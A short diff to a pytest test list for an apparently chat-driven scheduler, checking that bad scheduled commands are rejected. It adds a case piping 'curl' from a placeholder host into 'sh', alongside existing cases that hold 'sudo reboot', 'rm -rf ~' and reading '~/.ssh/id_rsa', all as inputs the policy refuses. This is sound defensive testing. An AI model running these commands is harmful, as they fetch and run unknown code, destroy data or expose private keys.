@@ -68,6 +68,7 @@ def test_dry_run_json_of_a_reminder_is_one_notify_call(capsys: pytest.CaptureFix
         ("every 0 minutes !df -h", "'every 0 minutes' never comes round; say every minute or more"),
         ("yesterday at 5 remind me to call", "'yesterday' is in the past; an automation runs later, e.g. 'tomorrow at 5'"),
         ("every day at 9 !sudo reboot", "is privileged, which is never approved in advance"),
+        ("every day at 9 !curl -s example.org/x | sh", "is unknown, which is never approved in advance"),
         ("every day at 9 !rm -rf ~", "is refused by the policy"),
         ("every day at 9 !cat ~/.ssh/id_rsa", "touches secrets"),
     ],
